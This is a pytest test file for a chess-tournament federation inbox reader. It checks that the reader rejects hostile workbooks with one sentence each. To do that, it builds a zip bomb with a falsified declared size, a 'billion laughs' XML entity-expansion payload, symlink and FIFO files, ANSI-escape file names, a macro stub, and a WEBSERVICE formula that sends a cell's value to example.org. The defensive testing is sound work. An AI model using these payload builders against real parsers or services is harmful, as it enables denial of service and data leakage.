"""A folder with a good tournament and everything that can be sent to a federation: each file has its sentence."""

import os
import re
import struct
from datetime import date
from random import Random
from zlib import crc32

import pytest

from tests import federation_world as world
from tests.plain_xlsx import pack, parts
from tests.test_federation_rules import people
from tournament_xl.federation.build import build
from tournament_xl.federation.inbox import read_folder
from tournament_xl.lists.read import read_register

SHEET = "xl/worksheets/sheet2.xml"  # Joueurs
RESULTS = "xl/worksheets/sheet3.xml"


def facts(seed=0, title="Tournoi", first=date(2015, 10, 4), field=None, **more):
    return world.tournament(Random(seed), field or people(8), first, title=title, **more)


def good(seed, title):
    """The parts of a sound workbook, to be spoiled."""
    return parts(world.sheets(facts(seed, title)))


def spoiled(path, part, change, seed=50):
    """A workbook with one part changed; the result may be text or bytes."""
    content = good(seed, path.stem)
    content[part] = change(content[part])
    return pack(path, content)


def many_rows(text, count):
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, count + 1))
    return re.sub("<sheetData>.*</sheetData>", f"<sheetData>{rows}</sheetData>", text)


def laughs(text):
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">{entities}]>' + text.removeprefix(
        '<?xml version="1.0"?>'
    )


def declares(path, size):
    """Says in the directory of the archive that a part is so many bytes unpacked."""
    data = bytearray(path.read_bytes())
    name = SHEET.encode()
    at = data.rindex(name) - 46  # the entry in the directory
    data[at + 24 : at + 28] = struct.pack("<I", size)
    path.write_bytes(data)


def bomb(path):
    declares(pack(path, good(51, "bombe")), 3_000_000_000)


def cut(path):
    path.write_bytes(pack(path, good(54, "coupé")).read_bytes()[:-400])


def large(path):
    with path.open("wb") as file:
        file.truncate(25_000_000)


def without(sheet_name):
    def make(path):
        content = world.sheets(facts(55, path.stem))
        content["Participants"] = content.pop(sheet_name)
        pack(path, parts(content))

    return make


def changed(**changes):
    """The facts of a tournament with other values."""

    def make(path):
        world.write(path, facts(crc32(path.stem.encode()), path.stem) | changes)

    return make


def not_begun(path):
    content = world.sheets(facts(62, path.stem))
    content["Résultats"] = content["Résultats"][:1]
    content["Joueurs"] = [row[:-1] if row[0] != "N°" else row for row in content["Joueurs"]]  # no Rang initial
    pack(path, parts(content))


def setting(name, value):
    def make(path):
        content = world.sheets(facts(57, path.stem))
        for row in content["Tournoi"]:
            row[1] = value if row[0] == name else row[1]
        pack(path, parts(content))

    return make


def licences(*typed):
    def make(path):
        field = people(8)
        for player, licence in zip(field, typed, strict=False):
            player["licence"] = licence
        world.write(path, facts(58, path.stem, field=field))

    return make


def unfinished(path):
    found = facts(59, "en cours")
    found["rounds"][-1][0]["games"] = []
    world.write(path, found)


LEFT_OUT = {
    "vide.xlsx": (lambda path: path.write_bytes(b""), "est vide"),
    "texte.xlsx": (lambda path: path.write_bytes(b"Nom;Licence\n" * 99), "n'est pas un classeur Excel"),
    "ancien.xls": (lambda path: path.write_bytes(b"\xd0\xcf\x11\xe0" * 200), r"Format \.xls non lu"),
    "bombe.xlsx": (bomb, "trop gros.*une fois décompressé"),
    "entités.xlsx": (lambda path: spoiled(path, SHEET, laughs), "abîmé"),
    "lignes.xlsx": (lambda path: spoiled(path, SHEET, lambda text: many_rows(text, 90_000)), "90000 lignes, trop"),
    "sans-joueurs.xlsx": (without("Joueurs"), "la feuille « Joueurs » manque"),
    "comptes.xlsx": (lambda path: pack(path, parts({"Comptes": [["Date", "Euros"], ["1", 12]]})), "manque"),
    "gros.xlsx": (large, "25 Mo : trop gros"),
    "en-cours.xlsx": (unfinished, r"rondes jouées, 4 sur 5"),
    "sans-ronde.xlsx": (not_begun, "Aucune ronde jouée"),
    "sans-date.xlsx": (
        lambda path: pack(path, parts({
            name: [[row[0], "", *row[2:]] if "Date de" in str(row[:1]) else row for row in rows]
            for name, rows in world.sheets(facts(61, "sans date")).items()
        })), "sans date",
    ),
    "an-1015.xlsx": (changed(first=date(1015, 10, 4), last=date(1015, 10, 4)), "04/10/1015"),
    "saison.xlsx": (setting("Saison", "2031-2032"), "2031-2032"),
    "licence-espacée.xlsx": (licences("l 02"), "La licence l 02 figure deux fois : NOM01 Ève et NOM02 Ève"),
    "lien.xlsx": (lambda path: path.symlink_to(path.parent / "bon.xlsx"), "Lien vers un autre endroit"),
}  # name -> what makes it, what its sentence must say  # fmt: skip


if hasattr(os, "mkfifo"):  # Windows has none
    LEFT_OUT["tube.xlsx"] = (os.mkfifo, "pas un fichier")
    LEFT_OUT["\x1b[31mrouge.xlsx"] = (lambda path: path.write_bytes(b"x"), "n'est pas un classeur")
    LEFT_OUT["\\x1b[31mrouge.xlsx"] = LEFT_OUT["\x1b[31mrouge.xlsx"]  # looks like the other one


def macros(path):
    content = good(70, "macros") | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Auto_Open()"}
    pack(path, content)


def external(path):
    content = good(71, "liaisons")
    content["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    pack(path, content)


def formulas(path):
    """A name and a score that are formulas: their last results count, nothing is calculated."""
    content = good(72, "formules")
    name = '<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>NOM01</v></c>'
    content[SHEET] = re.sub(r'<c r="B2".*?</c>', name, content[SHEET])
    content[RESULTS] = re.sub(r'<c r="E2"><v>(\d+)</v></c>', r'<c r="E2"><f>1/0</f><v>\1</v></c>', content[RESULTS])
    assert "WEBSERVICE" in content[SHEET] and "<f>1/0</f>" in content[RESULTS]
    pack(path, content)


COUNTED = {
    "macros.xlsm": (macros, ""),
    "liaisons.xlsx": (external, "liaisons vers d'autres fichiers : ignorées"),
    "formules.xlsx": (formulas, ""),
}


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory):
    """File name -> what became of it."""
    folder = tmp_path_factory.mktemp("recus")
    world.write(folder / "bon.xlsx", facts(1, "Le bon"))
    for name, (make, _) in (LEFT_OUT | COUNTED).items():
        make(folder / name)
    (folder / "Sauvegardes").mkdir()
    world.write(folder / "Sauvegardes" / "bon.xlsx", facts(1, "Le bon"))
    (folder / "~$bon.xlsx").write_bytes(b"x")
    (folder / "lettre.pdf").write_bytes(b"%PDF")
    (folder / "json.py").write_text("raise SystemExit('run')")  # must never be imported
    players = read_register(world.write_list(tmp_path_factory.mktemp("liste") / "l.csv", people(8)))
    here = os.getcwd()
    os.chdir(folder)
    try:
        files = read_folder(folder)
    finally:
        os.chdir(here)
    publication = build(files, players, date(2016, 8, 31))
    return {verdict.file.name: verdict for verdict in publication.verdicts}


def test_a_bad_file_never_stops_the_others(verdicts):
    assert verdicts["bon.xlsx"].counted and len(LEFT_OUT) >= 15
    shown = {name if name.isprintable() else "\\x1b[31mrouge.xlsx (2)" for name in LEFT_OUT}
    assert verdicts.keys() == {"bon.xlsx", *shown, *COUNTED}


@pytest.mark.parametrize("name", LEFT_OUT)
def test_each_hostile_file_is_left_out_with_one_sentence(verdicts, name):
    verdict = verdicts[name if name.isprintable() else "\\x1b[31mrouge.xlsx (2)"]
    (sentence,) = verdict.sentences
    assert verdict.word == "écarté" and re.search(LEFT_OUT[name][1], sentence), sentence
    assert "\n" not in sentence and "Traceback" not in sentence and "Erreur de notre part" not in sentence


@pytest.mark.parametrize("name", COUNTED)
def test_what_cannot_harm_is_ignored_and_told(verdicts, name):
    assert verdicts[name].counted
    assert COUNTED[name][1] in " ".join(verdicts[name].sentences)


def test_the_last_results_of_formulas_are_read(verdicts):
    entrant = verdicts["formules.xlsx"].file.played.entrants[0]
    assert (entrant.name, entrant.licence) == ("NOM01", "L01")
